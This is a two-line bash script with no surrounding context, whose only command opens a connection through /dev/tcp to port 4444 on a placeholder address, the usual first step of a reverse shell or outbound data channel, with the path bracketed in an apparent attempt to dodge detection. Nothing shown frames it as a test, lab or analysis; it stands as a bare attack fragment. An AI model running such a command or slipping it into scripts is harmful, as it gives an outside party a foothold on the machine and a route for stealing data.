#!/bin/bash
exec 3</dev/tc[p]/203.0.113.9/4444
